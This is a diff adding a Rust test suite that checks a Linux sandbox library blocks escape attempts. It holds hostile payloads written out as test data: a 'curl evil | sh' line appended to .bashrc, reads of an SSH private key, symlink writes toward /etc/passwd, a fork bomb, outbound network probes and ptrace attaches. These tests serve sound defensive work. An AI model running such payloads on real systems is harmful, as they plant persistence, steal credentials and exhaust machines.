@@ -1,0 +1,519 @@
+//! Escape suite: each hostile payload runs in the sandbox and the specific block is asserted.
+//! Where a block could also come from plain Unix permissions, a control run with that layer
+//! switched off shows that the sandbox layer is what stops it.
+#![cfg(target_os = "linux")]
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::sync::Mutex;
+use std::time::Duration;
+
+use hearth_sandbox::{NamespaceMode, Outcome, Protection, Sandbox, SandboxConfig, Status};
+
+/// Runs share the sandbox uid (RLIMIT_NPROC counts per uid) and some spawn many processes:
+/// run them one at a time.
+static SERIAL: Mutex<()> = Mutex::new(());
+
+const PY: &str = "/usr/bin/python3";
+
+struct Env {
+    _tmp: tempfile::TempDir,
+    scratch: PathBuf,
+    home: PathBuf,
+    outside: PathBuf,
+}
+
+/// A world-accessible layout, so that only the sandbox (not file modes) can block access:
+/// `<tmp>/scratch`, `<tmp>/home/.bashrc`, `<tmp>/home/.ssh/id_rsa`, `<tmp>/outside`.
+fn env() -> Env {
+    let tmp = tempfile::tempdir().unwrap();
+    let base = tmp.path().to_path_buf();
+    let scratch = base.join("scratch");
+    let home = base.join("home");
+    let outside = base.join("outside");
+    for d in [&scratch, &home, &home.join(".ssh"), &outside] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::write(home.join(".bashrc"), "# original\n").unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), "FAKE-PRIVATE-KEY\n").unwrap();
+    for d in [&base, &home, &home.join(".ssh"), &outside] {
+        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o777)).unwrap();
+    }
+    for f in [home.join(".bashrc"), home.join(".ssh/id_rsa")] {
+        std::fs::set_permissions(f, std::fs::Permissions::from_mode(0o666)).unwrap();
+    }
+    Env {
+        _tmp: tmp,
+        scratch,
+        home,
+        outside,
+    }
+}
+
+fn config(e: &Env) -> SandboxConfig {
+    let mut c = SandboxConfig::new(&e.scratch);
+    c.timeout = Duration::from_secs(20);
+    c.env.retain(|(k, _)| k != "HOME");
+    c.env.push(("HOME".into(), e.home.display().to_string()));
+    c
+}
+
+fn run(c: SandboxConfig, prog: &str, args: &[&str]) -> Outcome {
+    let args: Vec<String> = args.iter().map(|s| s.to_string()).collect();
+    Sandbox::new(c).run(prog, &args).unwrap()
+}
+
+fn py(c: SandboxConfig, code: &str) -> Outcome {
+    run(c, PY, &["-c", code])
+}
+
+fn sh(c: SandboxConfig, script: &str) -> Outcome {
+    run(c, "/bin/sh", &["-c", script])
+}
+
+fn show(o: &Outcome) -> String {
+    format!(
+        "status={:?} killed_by={:?} timed_out={} stdout={:?} stderr={:?}",
+        o.status,
+        o.killed_by,
+        o.timed_out,
+        o.stdout_str(),
+        o.stderr_str()
+    )
+}
+
+fn assert_active(o: &Outcome, ps: &[Protection]) {
+    for p in ps {
+        assert_eq!(
+            o.protection(*p),
+            Some(&Status::Active),
+            "{p} not active: {:?}",
+            o.protections
+        );
+    }
+}
+
+#[test]
+fn benign_program_runs_and_reports_protections() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let o = sh(
+        config(&e),
+        "echo hello; echo oops >&2; echo data > f.txt; cat f.txt; exit 3",
+    );
+    assert_eq!(o.status, Some(3), "{}", show(&o));
+    assert_eq!(o.stdout_str(), "hello\ndata\n");
+    assert_eq!(o.stderr_str(), "oops\n");
+    assert_eq!(
+        std::fs::read_to_string(e.scratch.join("f.txt")).unwrap(),
+        "data\n"
+    );
+    assert_eq!(o.protections.len(), Protection::ALL.len());
+    // On this project's machines (root, Linux >= 6.7) everything is in force.
+    for (p, s) in &o.protections {
+        eprintln!("{p}: {s}");
+    }
+    assert_active(
+        &o,
+        &[
+            Protection::WallClockKill,
+            Protection::NoNewPrivs,
+            Protection::Seccomp,
+            Protection::RlimitCpu,
+            Protection::RlimitAs,
+            Protection::RlimitFsize,
+            Protection::RlimitNofile,
+            Protection::RlimitCore,
+        ],
+    );
+}
+
+#[test]
+fn write_bashrc_is_blocked() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let script = "echo 'curl evil | sh' >> \"$HOME/.bashrc\" && echo WROTE || echo BLOCKED";
+    let o = sh(config(&e).require_all_enabled(), script);
+    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
+    assert_eq!(
+        std::fs::read_to_string(e.home.join(".bashrc")).unwrap(),
+        "# original\n"
+    );
+    // Control: without Landlock the same write succeeds (the modes allow it), so the block
+    // above is the sandbox's doing.
+    let mut c = config(&e);
+    c.landlock = false;
+    let o = sh(c, script);
+    assert_eq!(o.stdout_str().trim(), "WROTE", "{}", show(&o));
+}
+
+#[test]
+fn read_ssh_key_is_blocked() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let script = "cat \"$HOME/.ssh/id_rsa\" || echo BLOCKED; ls \"$HOME/.ssh\" || echo NOLIST";
+    let o = sh(config(&e).require_all_enabled(), script);
+    let out = o.stdout_str();
+    assert!(!out.contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
+    assert!(
+        out.contains("BLOCKED") && out.contains("NOLIST"),
+        "{}",
+        show(&o)
+    );
+    assert!(o.stderr_str().contains("Permission denied"), "{}", show(&o));
+    let mut c = config(&e);
+    c.landlock = false;
+    let o = sh(c, script);
+    assert!(o.stdout_str().contains("FAKE-PRIVATE-KEY"), "{}", show(&o));
+}
+
+#[test]
+fn write_outside_via_dotdot_and_symlink_is_blocked() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    std::os::unix::fs::symlink(&e.outside, e.scratch.join("link")).unwrap();
+    let script = "echo x > ../outside/dotdot.txt && echo DOTDOT-WROTE || echo DOTDOT-BLOCKED; \
+                  echo x > link/symlink.txt && echo LINK-WROTE || echo LINK-BLOCKED; \
+                  ln -s /etc/passwd mylink 2>/dev/null; echo x >> mylink && echo ETC-WROTE || echo ETC-BLOCKED";
+    let o = sh(config(&e).require_all_enabled(), script);
+    let out = o.stdout_str();
+    assert!(out.contains("DOTDOT-BLOCKED"), "{}", show(&o));
+    assert!(out.contains("LINK-BLOCKED"), "{}", show(&o));
+    assert!(out.contains("ETC-BLOCKED"), "{}", show(&o));
+    assert!(!e.outside.join("dotdot.txt").exists());
+    assert!(!e.outside.join("symlink.txt").exists());
+    let mut c = config(&e);
+    c.landlock = false;
+    let o = sh(c, "echo x > ../outside/dotdot.txt && echo DOTDOT-WROTE");
+    assert!(o.stdout_str().contains("DOTDOT-WROTE"), "{}", show(&o));
+}
+
+const NET_PROBE: &str = r#"
+import socket, errno, sys
+def probe(kind, host, port):
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
+    except OSError as e:
+        print(kind, host, "socket", errno.errorcode.get(e.errno, e.errno)); return
+    try:
+        s.settimeout(2)
+        s.connect((host, port))
+        if kind == "udp":
+            s.send(b"x")
+        print(kind, host, "CONNECTED")
+    except OSError as e:
+        print(kind, host, "connect", errno.errorcode.get(e.errno, e.errno))
+port = int(sys.argv[1])
+for kind in ("tcp", "udp"):
+    probe(kind, "127.0.0.1", port)
+    probe(kind, "1.1.1.1", 53)
+"#;
+
+fn net_lines(o: &Outcome) -> Vec<String> {
+    o.stdout_str().lines().map(str::to_string).collect()
+}
+
+#[test]
+fn network_is_blocked_by_every_layer() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port().to_string();
+
+    // Full sandbox. `required` makes the run fail before the payload starts if the network
+    // namespace (or anything else) is missing: no packet can leave on a half-built sandbox.
+    let o = run(
+        config(&e).require_all_enabled(),
+        PY,
+        &["-c", NET_PROBE, &port],
+    );
+    assert_active(&o, &[Protection::NetworkNamespace, Protection::Seccomp]);
+    let lines = net_lines(&o);
+    assert_eq!(lines.len(), 4, "{}", show(&o));
+    for l in &lines {
+        assert!(
+            l.ends_with("socket EPERM"),
+            "seccomp should deny AF_INET: {l}"
+        );
+    }
+
+    // Seccomp and Landlock off: only the empty network namespace stands in the way.
+    let mut c = config(&e);
+    c.seccomp = false;
+    c.landlock = false;
+    c.required = vec![Protection::NetworkNamespace];
+    let o = run(c, PY, &["-c", NET_PROBE, &port]);
+    let lines = net_lines(&o);
+    assert_eq!(lines.len(), 4, "{}", show(&o));
+    for l in &lines {
+        assert!(l.ends_with("connect ENETUNREACH"), "netns: {l}");
+    }
+
+    // Landlock alone (ABI >= 4) denies TCP connect; namespaces and seccomp off, but the only
+    // destination tried is our own loopback listener, never the outside world.
+    let mut c = config(&e);
+    c.seccomp = false;
+    c.namespaces = NamespaceMode::None;
+    c.required = vec![Protection::LandlockNet];
+    let code = "import socket,sys,errno\ns=socket.socket()\ntry:\n s.connect(('127.0.0.1',int(sys.argv[1])));print('CONNECTED')\nexcept OSError as e: print(errno.errorcode[e.errno])";
+    match Sandbox::new(c).run(PY, &["-c".into(), code.into(), port.clone()]) {
+        Ok(o) => assert_eq!(o.stdout_str().trim(), "EACCES", "{}", show(&o)),
+        Err(err) => eprintln!("Landlock network rules unavailable here: {err}"),
+    }
+    assert!(
+        listener.accept().is_err(),
+        "no sandboxed connection may reach the listener"
+    );
+}
+
+#[test]
+fn fork_bomb_hits_rlimit_nproc() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e).require_all_enabled();
+    c.processes = 16;
+    c.required.push(Protection::RlimitNproc);
+    c.timeout = Duration::from_secs(20);
+    let code = r#"
+import os, time, errno
+n = 0
+try:
+    for i in range(1000):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(60); os._exit(0)
+        n += 1
+    print("FORKED", n)
+except OSError as e:
+    print("BLOCKED", n, errno.errorcode[e.errno])
+"#;
+    let o = py(c, code);
+    let out = o.stdout_str();
+    assert!(out.starts_with("BLOCKED"), "{}", show(&o));
+    assert!(out.trim().ends_with("EAGAIN"), "{}", show(&o));
+    let n: usize = out.split_whitespace().nth(1).unwrap().parse().unwrap();
+    assert!(n < 16, "{n} forks succeeded");
+    // The sleeping children were killed with the group: the run did not wait 60 s for them.
+    assert!(!o.timed_out);
+}
+
+#[test]
+fn huge_allocation_hits_rlimit_as() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let code = "try:\n b = bytearray(10 * 1024**3); print('ALLOCATED', len(b))\nexcept MemoryError: print('BLOCKED')";
+    let o = py(config(&e).require_all_enabled(), code);
+    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
+}
+
+#[test]
+fn huge_file_hits_rlimit_fsize() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e).require_all_enabled();
+    c.file_size_bytes = 8 << 20;
+    let code = r#"
+import errno
+chunk = b"\0" * (1 << 20)
+written = 0
+try:
+    with open("big.bin", "wb") as f:
+        for i in range(10 * 1024):
+            f.write(chunk); f.flush(); written += len(chunk)
+    print("WROTE", written)
+except OSError as e:
+    print("BLOCKED", written, errno.errorcode[e.errno])
+"#;
+    let o = py(c, code);
+    assert!(o.stdout_str().starts_with("BLOCKED"), "{}", show(&o));
+    assert!(o.stdout_str().contains("EFBIG"), "{}", show(&o));
+    let len = std::fs::metadata(e.scratch.join("big.bin")).unwrap().len();
+    assert!(len <= 8 << 20, "file grew to {len}");
+}
+
+#[test]
+fn infinite_loop_is_killed_at_timeout() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e);
+    c.timeout = Duration::from_millis(1500);
+    // A child that keeps stdout open must not keep the run alive either.
+    let o = sh(c, "(while :; do :; done) & while :; do :; done");
+    assert!(o.timed_out, "{}", show(&o));
+    assert_eq!(o.killed_by, Some(9), "{}", show(&o));
+    assert!(o.elapsed < Duration::from_secs(10));
+}
+
+#[test]
+fn cpu_limit_kills_a_busy_loop() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e);
+    c.cpu_seconds = 1;
+    let o = sh(c, "while :; do :; done");
+    assert!(!o.timed_out, "{}", show(&o));
+    assert!(
+        o.killed_by == Some(SIGXCPU) || o.killed_by == Some(9),
+        "{}",
+        show(&o)
+    );
+}
+
+const SIGXCPU: i32 = 24;
+
+const PTRACE_PARENT: &str = r#"
+import ctypes, os, errno, time, signal
+libc = ctypes.CDLL(None, use_errno=True)
+PTRACE_ATTACH = 16
+parent = os.getpid()
+pid = os.fork()
+if pid == 0:
+    r = libc.ptrace(PTRACE_ATTACH, parent, 0, 0)
+    e = ctypes.get_errno()
+    if r == 0:
+        os.waitpid(parent, 0)
+        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH: let the parent go on
+    print("ATTACHED" if r == 0 else "BLOCKED " + errno.errorcode.get(e, str(e)), flush=True)
+    os._exit(0)
+os.waitpid(pid, 0)
+r = libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0)
+e = ctypes.get_errno()
+print("GRANDPARENT " + ("ATTACHED" if r == 0 else errno.errorcode.get(e, str(e))), flush=True)
+"#;
+
+#[test]
+fn ptrace_of_parent_is_blocked() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let o = py(config(&e).require_all_enabled(), PTRACE_PARENT);
+    let out = o.stdout_str();
+    assert!(out.contains("BLOCKED EPERM"), "{}", show(&o));
+    assert!(out.contains("GRANDPARENT EPERM"), "{}", show(&o));
+    // Control: without seccomp, a same-uid child can attach to its parent (no Yama here), so
+    // the EPERM above is the filter's doing.
+    let mut c = config(&e);
+    c.seccomp = false;
+    c.landlock = false;
+    let o = py(c, PTRACE_PARENT);
+    let out = o.stdout_str();
+    assert!(
+        out.contains("\nGRANDPARENT") || out.contains("GRANDPARENT"),
+        "{}",
+        show(&o)
+    );
+    assert!(out.starts_with("ATTACHED"), "{}", show(&o));
+}
+
+#[test]
+fn user_namespace_path_works_and_is_reported() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e);
+    c.namespaces = NamespaceMode::UserNamespace;
+    let o = sh(c, "echo ok > f; cat f; id -u; cat /proc/self/uid_map");
+    match o.protection(Protection::UserNamespace) {
+        Some(Status::Active) => {
+            assert_active(
+                &o,
+                &[Protection::NetworkNamespace, Protection::MountNamespace],
+            );
+            let out = o.stdout_str();
+            assert!(out.starts_with("ok\n"), "{}", show(&o));
+        }
+        Some(Status::Unavailable { reason }) => {
+            // Kernel without unprivileged user namespaces: the report must say so for the
+            // namespaces that depend on it, and the run still happened with the other layers.
+            eprintln!("user namespaces unavailable: {reason}");
+            for p in [Protection::NetworkNamespace, Protection::MountNamespace] {
+                assert!(
+                    matches!(o.protection(p), Some(Status::Unavailable { .. })),
+                    "{p}"
+                );
+            }
+        }
+        other => panic!("unexpected user namespace status {other:?}"),
+    }
+}
+
+#[test]
+fn no_namespace_fallback_is_reported_and_other_layers_hold() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e);
+    c.namespaces = NamespaceMode::None;
+    let o = sh(
+        c.clone(),
+        "echo x > ../outside/f && echo WROTE || echo BLOCKED",
+    );
+    for p in [
+        Protection::UserNamespace,
+        Protection::NetworkNamespace,
+        Protection::MountNamespace,
+    ] {
+        assert_eq!(o.protection(p), Some(&Status::Disabled), "{p}");
+    }
+    assert_eq!(o.stdout_str().trim(), "BLOCKED", "{}", show(&o));
+    // Requiring the network namespace in this mode refuses to run at all.
+    c.required = vec![Protection::NetworkNamespace];
+    let err = Sandbox::new(c)
+        .run("/bin/sh", &["-c".into(), "echo RAN > ran".into()])
+        .unwrap_err();
+    assert!(err.to_string().contains("network_namespace"), "{err}");
+    assert!(!e.scratch.join("ran").exists());
+}
+
+#[test]
+fn missing_program_and_bad_scratch_are_errors() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let err = Sandbox::new(config(&e))
+        .run("definitely-not-a-program-xyz", &[])
+        .unwrap_err();
+    assert!(err.to_string().contains("not found"), "{err}");
+    let c = SandboxConfig::new(Path::new("/nonexistent/scratch/dir"));
+    assert!(Sandbox::new(c).run("/bin/true", &[]).is_err());
+}
+
+#[test]
+fn stdin_is_passed_and_output_is_capped() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let e = env();
+    let mut c = config(&e);
+    c.stdin = Some(b"from stdin\n".to_vec());
+    c.max_output_bytes = 1000;
+    let o = sh(c, "cat; head -c 100000 /dev/zero");
+    assert!(o.stdout_str().starts_with("from stdin\n"));
+    assert_eq!(o.stdout.len(), 1000);
+}
+
+#[test]
+fn staying_root_reports_rlimit_nproc_as_ineffective() {
+    let _g = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    // Only meaningful when the tests run as root (as on CI).
+    if !std::fs::read_to_string("/proc/self/status")
+        .unwrap()
+        .lines()
+        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(2) == Some("0"))
+    {
+        return;
+    }
+    let e = env();
+    let mut c = config(&e);
+    c.run_as = None;
+    let o = sh(c, "id -u");
+    assert_eq!(o.stdout_str().trim(), "0");
+    assert_eq!(
+        o.protection(Protection::DropPrivileges),
+        Some(&Status::Disabled)
+    );
+    assert!(
+        matches!(
+            o.protection(Protection::RlimitNproc),
+            Some(Status::Unavailable { .. })
+        ),
+        "{:?}",
+        o.protections
+    );
+}
